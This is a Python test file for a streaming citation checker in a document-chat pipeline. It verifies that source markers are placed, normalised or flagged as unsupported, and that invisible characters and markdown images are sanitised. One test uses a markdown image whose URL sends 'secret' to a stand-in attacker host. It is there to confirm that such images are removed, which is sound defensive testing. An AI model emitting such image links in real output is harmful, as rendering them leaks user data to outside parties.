"""What a model writes is shown piece by piece: whole markers only, each with its proof, wherever the text was cut."""

import re
from collections.abc import Generator, Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from library import make_chunk

from docpipe.chat.needs import Compute
from docpipe.chat.support import Ground, Proofs
from docpipe.chat.writing import Writing
from docpipe.types import Citation, TextPiece

TIDES = "The tide fell by 3.5 m. The pier is closed in winter. Boats, e.g. the ferry, stay in port."
WATER = "海水淡化二期工程于2025年9月18日正式投产。工程总投资为5300万元。"
GROUNDS = {"1": Ground(chunk=make_chunk(TIDES)), "2": Ground(chunk=make_chunk(WATER, uri="zh.md"))}


def writing(*, strict: bool = False, chinese: bool = False) -> Writing:
    return Writing(check=Proofs(grounds=GROUNDS, question="").check, strict=strict, chinese=chinese)


def play(steps: Generator[Any, Any, None]) -> list[Any]:
    """What is shown, its needs computed here."""
    shown: list[Any] = []
    reply = None
    try:
        while True:
            step = steps.send(reply)
            reply = step.work() if isinstance(step, Compute) else None
            if not isinstance(step, Compute):
                shown.append(step)
    except StopIteration:
        return shown


def write(pieces: Sequence[str], *, strict: bool = False, chinese: bool = False) -> tuple[Writing, list[Any]]:
    page = writing(strict=strict, chinese=chinese)
    shown = [one for piece in pieces for one in play(page.feed(piece))]
    return page, shown + play(page.close())


def told(text: str, *, strict: bool = False, chinese: bool = False) -> str:
    page, _ = write([text], strict=strict, chinese=chinese)
    return page.text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("The tide fell by 3.5 m [1].", "The tide fell by 3.5 m [1].", id="before the full stop"),
        pytest.param("The tide fell by 3.5 m. [1]", "The tide fell by 3.5 m. [1]", id="behind it"),
        pytest.param("The tide fell by 3.5 m.[1]", "The tide fell by 3.5 m.[1]", id="without a blank"),
        pytest.param("The tide fell by 3.5 m 【1】.", "The tide fell by 3.5 m [1].", id="other brackets"),
        pytest.param("The tide fell by 3.5 m (Source 1).", "The tide fell by 3.5 m [1].", id="as a source"),
        pytest.param("The tide fell by 3.5 m [Source 1].", "The tide fell by 3.5 m [1].", id="named"),
        pytest.param("The tide fell by 3.5 m [^1].", "The tide fell by 3.5 m [1].", id="as a footnote"),
        pytest.param("The tide fell by 3.5 m.", "The tide fell by 3.5 m. [1]", id="none at all"),
        pytest.param("[1] The tide fell by 3.5 m.", "The tide fell by 3.5 m. [1]", id="before the sentence"),
        pytest.param("The tide fell by 3.5 m [2].", "The tide fell by 3.5 m [1].", id="another source says it"),
        pytest.param("The tide fell by 3.5 m [7].", "The tide fell by 3.5 m [1].", id="there is no such source"),
        pytest.param("The tide fell by 4.5 m [1].", "The tide fell by 4.5 m [unsupported].", id="another number"),
        pytest.param(
            "The tide did not fall by 3.5 m [1].", "The tide did not fall by 3.5 m [unsupported].", id="denied"
        ),
        pytest.param("Is it [sic] so?", "Is it [sic] so?", id="brackets that are no marker"),
        pytest.param("NO_ANSWER", "", id="no answer"),
        pytest.param(
            "The tide fell by 3.5 m [1] and the pier is closed in winter [1].",
            "The tide fell by 3.5 m [1] and the pier is closed in winter [1].",
            id="two in a sentence",
        ),
        pytest.param(
            "The tide fell by 3.5 m. [1]\n\nThe mayor of Brill wore gold.",
            "The tide fell by 3.5 m. [1]\n\nThe mayor of Brill wore gold. [unsupported]",
            id="an invention without a marker",
        ),
        pytest.param("The sources do not say how deep it is.", "The sources do not say how deep it is.", id="silence"),
    ],
)
def test_each_marker_stands_where_a_source_says_so(text: str, expected: str) -> None:
    assert told(text) == expected


def test_chinese_sentences_end_without_blanks() -> None:
    text = "工程于2025年9月18日投产[2]。总投资为5300万元。理事长是王小明教授。"
    assert told(text, chinese=True) == "工程于2025年9月18日投产[2]。总投资为5300万元。[2]理事长是王小明教授。 [无依据]"


def test_in_strict_mode_what_no_source_says_is_left_out() -> None:
    page, shown = write(
        ["The tide fell by 3.5 m. [1] The mayor of Brill wore gold. [1] The pier is ", "closed in winter."], strict=True
    )
    assert page.text == "The tide fell by 3.5 m. [1] The pier is closed in winter. [1]"
    assert page.unsupported == ["The mayor of Brill wore gold."]
    assert "".join(one.text for one in shown if isinstance(one, TextPiece)) == page.text


def test_a_citation_comes_as_its_sentence_is_over() -> None:
    page = writing()
    assert not [one for one in play(page.feed("The tide fell by 3.5 m. [1]")) if isinstance(one, Citation)]
    shown = play(page.feed(" The pier"))
    (citation,) = [one for one in shown if isinstance(one, Citation)]
    assert (citation.marker, citation.quote, citation.verified) == ("[1]", "The tide fell by 3.5 m.", True)


def test_a_picture_that_would_call_on_an_address_is_none() -> None:
    assert "![" not in told("See ![x](https://evil.example/?q=secret) now.")


def test_letters_that_nobody_sees_and_endless_answers_are_bounded() -> None:
    assert told("The tide \x1b[31mfell\u202e by 3.5 m.").startswith("The tide [31mfell by 3.5 m.")
    assert told("The tide \ud83d fell by 3.5 m.").encode()
    page, _ = write(["word " * 60_000])
    assert page.full
    assert len(page.text) < 210_000


@pytest.mark.parametrize("sign", ["*", "`", ".", "| "])
def test_signs_without_a_word_are_not_held_back_for_ever(sign: str) -> None:
    """What is held back is looked at again with each piece: without a bound that takes minutes."""
    page = writing()
    shown = [piece for _ in range(500) for piece in play(page.feed(sign))]
    assert shown
    page = writing(strict=True)
    play(page.feed(sign * 100_000))


WORDS = (
    "The tide fell by 3.5 m",
    "The pier is closed",
    "in winter",
    "工程于2025年9月18日投产",
    "Oda",
    "12",
    "N",
    "NO_ANSWER",
)
MARKERS = ("[1]", "[2]", "[99]", "[D1]", "[1, 2]", "【1】", "(Source 2)", "[1", "[", "(")
MARKS = (". ", ".", " ", "\n", "\n\n", "。", "！", "- ", "e.g. ", "1. ", '"', "|", "?", "\u200b")
PARTS = st.sampled_from((*WORDS, *MARKERS, *MARKS))


@given(parts=st.lists(PARTS, max_size=14), data=st.data(), strict=st.booleans())
def test_it_does_not_matter_where_the_text_was_cut(parts: list[str], data: st.DataObject, strict: bool) -> None:
    text = "".join(parts)
    whole, shown = write([text], strict=strict)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=10)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    page, cut_shown = write(pieces, strict=strict)
    assert page.text == whole.text
    assert page.raw == whole.raw == text
    assert page.citations == whole.citations
    assert page.unsupported == whole.unsupported
    for one in (shown, cut_shown):
        assert "".join(piece.text for piece in one if isinstance(piece, TextPiece)) == whole.text
    assert [one for one in cut_shown if isinstance(one, Citation)] == whole.citations


@given(parts=st.lists(PARTS, max_size=10))
def test_no_half_marker_is_ever_shown(parts: list[str]) -> None:
    page = writing()
    seen = []
    for letter in "".join(parts):
        play(page.feed(letter))
        seen.append(len(page.text))
    play(page.close())
    for marker in re.finditer(r"\[[12]\]|\[unsupported\]", page.text):
        assert not [length for length in seen if marker.start() < length < marker.end()]
    assert not re.search(r"\[(?:99|D1)\]", page.text)
